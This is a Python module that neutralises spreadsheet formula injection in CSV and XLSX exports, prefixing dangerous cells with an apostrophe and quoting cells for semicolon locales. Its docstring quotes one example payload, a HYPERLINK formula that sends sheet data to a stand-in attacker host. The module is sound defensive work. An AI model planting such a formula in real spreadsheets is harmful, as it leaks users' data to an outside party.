"""Cells that a spreadsheet shows as text, never runs as a formula (OWASP "CSV injection").

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil.example/?"&A1)``
sends the sheet's data away when clicked), so it is written with a leading apostrophe, which
the spreadsheet shows as text. Numbers are left as numbers. (defusedcsv does the same for CSV
but misses tab and carriage return and rewrites ``|``; XLSX needs it too, as openpyxl stores a
string that begins with ``=`` as a formula.)
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A spreadsheet set to a semicolon locale splits a CSV line at every ``;`` (quotes or not: a
#: quoted cell's own ``;`` splits too when the quote is not at the start of what it reads as a
#: cell), so what follows a ``;`` is neutralised as the start of a cell is.
_AFTER_SEMICOLON = re.compile(r";(?=[ ]*[=+\-@\t\r])")


def neutralise(value):
    """``value`` made safe for a spreadsheet cell: text that a spreadsheet would run is
    prefixed with ``'``, and so is what follows each ``;`` (``ok;=1+1`` becomes
    ``ok;'=1+1``); anything else (numbers, None, other text) is returned unchanged."""
    if not isinstance(value, str):
        return value
    if ";" in value:
        value = _AFTER_SEMICOLON.sub(";'", value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(row):
    """Every cell of ``row`` neutralised."""
    return [neutralise(v) for v in row]


def csv_line(row) -> str:
    """One CSV line (RFC 4180, ending CRLF) in which a cell is quoted when it holds a comma,
    a quote, a line break (as Python's csv writer does) or a ``;``: a semicolon-locale
    spreadsheet then reads that cell whole where the quote opens it."""
    cells = []
    for v in row:
        text = "" if v is None else str(v)
        if any(c in text for c in ',";\r\n'):
            text = '"' + text.replace('"', '""') + '"'
        cells.append(text)
    return ",".join(cells) + "\r\n"


def write_csv(stream, rows) -> None:
    """``rows`` (already neutralised) written to ``stream`` with :func:`csv_line`."""
    for row in rows:
        stream.write(csv_line(row))
